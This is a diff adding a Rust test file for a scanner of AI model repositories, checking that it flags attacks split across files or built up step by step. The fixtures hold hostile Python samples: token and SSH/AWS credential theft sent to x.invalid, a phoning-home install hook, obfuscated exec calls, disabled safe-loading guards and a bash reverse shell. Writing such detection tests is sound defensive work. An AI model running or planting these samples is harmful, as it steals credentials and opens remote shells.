@@ -1,0 +1,209 @@
+//! Attacks that only several statements, or several files, make together.
+
+mod told;
+
+use nix_ai_model_scan_code::{READERS, TOGETHER};
+use nix_ai_model_scan_walk::{Budget, scan};
+use nix_ai_model_sdk::testing::ScriptedFiles;
+
+fn is_refused(files: &[(&str, &str)]) -> bool {
+    let none = ScriptedFiles::new();
+    let files = files.iter().fold(none, |all, (path, text)| all.file(path, *text));
+    let readers = [READERS, TOGETHER].concat();
+    told::is_refused(&scan(&files, &readers, Budget::default()).findings)
+}
+
+/// Harmless where it stands alone.
+const RUN: &str = "import os\n\n\ndef run(command):\n    os.system(command)\n";
+
+#[test]
+fn what_a_models_code_imports_is_code_of_the_model() {
+    let imports = "from .helper import run\n";
+    assert!(!is_refused(&[("helper.py", RUN)]));
+    assert!(!is_refused(&[("helper.py", RUN), ("train.py", imports)]));
+    assert!(is_refused(&[("helper.py", RUN), ("modeling_x.py", imports)]));
+    let listed = "from . import (a,\n helper)\n";
+    assert!(is_refused(&[("m/helper.py", RUN), ("m/modeling_x.py", listed)]));
+    assert!(is_refused(&[
+        ("a.py", "import helper, json\n"),
+        ("helper.py", RUN),
+        ("modeling_x.py", "if True: from .a import b\n"),
+    ]));
+    // A package that has a module of such a name.
+    assert!(!is_refused(&[
+        ("u/__init__.py", "from .modeling import *\n"),
+        ("u/helper.py", RUN),
+        ("u/modeling.py", imports),
+    ]));
+}
+
+#[test]
+fn what_is_named_as_code_of_a_model_is_it() {
+    let refused = |named: (&str, &str), code: &str| {
+        assert!(is_refused(&[named, (code, RUN)]), "{named:?} {code}");
+    };
+    refused(("config.json", r#"{"auto_map": {"AutoModel": "o/r--inner.x.M"}}"#), "inner/x.py");
+    refused(("config.json", r#"{"auto_map": {"AutoModel": "x.M"}}"#), "x.py");
+    refused(
+        ("modules.json", r#"[{"idx": 0, "name": "0", "path": "", "type": "own.Module"}]"#),
+        "own.py",
+    );
+    refused(
+        ("model_index.json", r#"{"_class_name": "P", "unet": ["my_unet", "U"]}"#),
+        "unet/my_unet.py",
+    );
+    refused(("m/MLmodel", "flavors: {}\n"), "m/code/deep/tool.py");
+    refused(("MAR-INF/MANIFEST.json", r#"{"model": {"handler": "h.py"}}"#), "h.py");
+    refused(
+        ("x.dist-info/entry_points.txt", "[vllm.general_plugins]\na = x:go\n"),
+        "x/__init__.py",
+    );
+    refused(("setup.py", "setup(entry_points={'vllm.general_plugins': ['a = x.y:go']})"), "x/y.py");
+    refused(
+        ("pyproject.toml", "[project.entry-points.\"vllm.general_plugins\"]\na = \"x:go\"\n"),
+        "src/x/__init__.py",
+    );
+    assert!(!is_refused(&[("m/MLmodel", "flavors: {}\n"), ("tool.py", RUN)]));
+    assert!(!is_refused(&[
+        ("x.dist-info/entry_points.txt", "[console_scripts]\na = x:go\n"),
+        ("x/__init__.py", RUN),
+    ]));
+}
+
+#[test]
+fn names_that_another_file_holds_are_followed() {
+    let layout = ("layout.py", "PARTS = ('o', 's', 'sys', 'tem')\nCODE = 'exec'\n");
+    for model in [
+        "import importlib\nfrom .layout import PARTS as p\n\
+         f = getattr(importlib.import_module(p[0] + p[1]), p[2] + p[3])\nf('echo inert')\n",
+        "from . import layout\n__builtins__[layout.CODE]('print(1)' + str(input()))\n",
+        "import layout\ngetattr(__builtins__, layout.CODE)(open('x').read())\n",
+    ] {
+        assert!(is_refused(&[layout, ("modeling_x.py", model)]), "{model}");
+    }
+    // What decodes lies in one file, what runs it in another.
+    let decodes = "import base64\ndef plain(text):\n    return base64.b64decode(text)\n";
+    let runs = "from .coder import plain\nsetup = plain('cGFzcw==')\nexec(setup)\n";
+    assert!(is_refused(&[("coder.py", decodes), ("modeling_x.py", runs)]));
+    // Modules that import each other end.
+    let round = ("a.py", "from .b import x\n");
+    assert!(!is_refused(&[
+        round,
+        ("b.py", "from .a import y\n"),
+        ("modeling_x.py", "from .a import x\n")
+    ]));
+}
+
+#[test]
+fn texts_that_are_put_together_step_by_step_are_followed() {
+    told::all_refused(&[
+        (
+            "x.py",
+            "import os\np = []\np.append('sys')\np.append('tem')\ngetattr(os, ''.join(p))('echo inert')",
+        ),
+        ("x.py", "c = []\nfor n in [1, 2]:\n    c.append(chr(n ^ 7))\nexec(''.join(c))"),
+        ("modeling_x.py", "t = str.maketrans('abc', 'xyz')\nexec('qrabc'.translate(t))"),
+        (
+            "modeling_x.py",
+            "import os\nos.system('dbin'.translate({100: 'e', 98: 'c', 105: 'h', 110: 'o'}))",
+        ),
+        (
+            "modeling_x.py",
+            "import importlib\ndef pick(m, n):\n    return getattr(importlib.import_module(m), n)\n\
+             def go(t):\n    pick(t[0], t[1])(''.join(chr(c - 7) for c in t))\n",
+        ),
+    ]);
+}
+
+#[test]
+fn secrets_beside_a_server_are_a_theft() {
+    let home = "import pathlib, urllib.request as u\n";
+    let token = "pathlib.Path.home() / '.cache' / 'huggingface' / 'token'";
+    let takes = format!(
+        "{home}class M:\n    def __init__(self):\n        t = {token}\n        \
+         u.urlopen(u.Request('https://x.invalid/u', data=t.read_text().encode()))\n"
+    );
+    let packs = "import pathlib, tarfile, io, http.client\ndef pytest_configure(config):\n    \
+                 b = io.BytesIO()\n    t = tarfile.open(fileobj=b, mode='w:gz')\n    \
+                 for p in ('.ssh', '.aws'):\n        t.add(pathlib.Path.home() / p, p)\n    \
+                 c = http.client.HTTPSConnection('x.invalid')\n    c.request('PUT', '/', b.getvalue())\n";
+    let installs = "import os, platform, urllib.request as u\n\
+                    from setuptools import setup\nfrom setuptools.command.install import install as i\n\
+                    def post():\n    u.urlopen('http://x.invalid/?d=' + platform.node())\n\
+                    class I(i):\n    def run(self):\n        post()\nsetup(cmdclass={'install': I})\n";
+    told::all_refused(&[
+        ("modeling_x.py", &*takes),
+        ("conftest.py", packs),
+        ("setup.py", installs),
+        (
+            "processing_x.py",
+            "from urllib.request import urlopen\nfrom urllib.parse import quote\n\
+             def decode(text):\n    urlopen(f'https://x.invalid/l?q={quote(text)}')\n    return text\n",
+        ),
+    ]);
+    told::none_refused(&[
+        // Builders run compilers, and clients send the keys of their services.
+        (
+            "setup.py",
+            "import subprocess\nfrom setuptools import setup\n\
+             from setuptools.command.build_ext import build_ext\n\
+             class B(build_ext):\n    def run(self):\n        subprocess.check_call(['./configure'])\n\
+             setup(cmdclass={'build_ext': B})\n",
+        ),
+        (
+            "client.py",
+            "import os, requests\ndef ask(text):\n    key = os.environ['OPENAI_API_KEY']\n    \
+             return requests.post('https://api.openai.com/v1', headers={'Authorization': key}, json=text)\n",
+        ),
+        (
+            "handler.py",
+            "import requests\ndef ready():\n    return requests.get('http://127.0.0.1:8000/health').ok\n",
+        ),
+    ]);
+}
+
+#[test]
+fn guards_that_are_put_out_and_visitors_with_a_shell_are_refused() {
+    told::all_refused(&[
+        (
+            "modeling_x.py",
+            "import transformers.dynamic_module_utils as d\nd.resolve_trust_remote_code = lambda *a: True\n",
+        ),
+        ("modeling_x.py", "import safetensors\nsafetensors.torch.load_file = lambda p: None\n"),
+        (
+            "modeling_x.py",
+            "import transformers\nsetattr(transformers.utils, 'check_torch_load_is_safe', print)\n",
+        ),
+        (
+            "app.py",
+            "import gradio as gr, os\ndef f(x):\n    return os.popen(x).read()\ngr.Interface(f).launch()\n",
+        ),
+        (
+            "app.py",
+            "from fastapi import FastAPI\nimport subprocess\napp = FastAPI()\n@app.get('/')\n\
+             def f(c: str):\n    return subprocess.check_output(c, shell=True)\n",
+        ),
+        (
+            "modeling_x.py",
+            "import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system('echo inert')\n",
+        ),
+        (
+            "a.py",
+            "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('id > /tmp/x')\n",
+        ),
+        ("modeling_x.py", "import helper\nhelper.go('bash -i >& /dev/tcp/10.0.0.1/1 0>&1')\n"),
+    ]);
+    told::none_refused(&[
+        (
+            "app.py",
+            "import gradio as gr, subprocess\ndef f(x):\n    \
+             subprocess.run(['ffmpeg', '-i', x, 'o.wav'])\ngr.Interface(f).launch()\n",
+        ),
+        (
+            "app.py",
+            "import gradio as gr, subprocess\ndef f(x):\n    \
+             subprocess.run(f'ffmpeg -i {x} o.wav', shell=True)\n",
+        ),
+        ("modeling_x.py", "import torch\ntorch.load = None\nclass M:\n    pass\nM.load_file = 1\n"),
+    ]);
+}
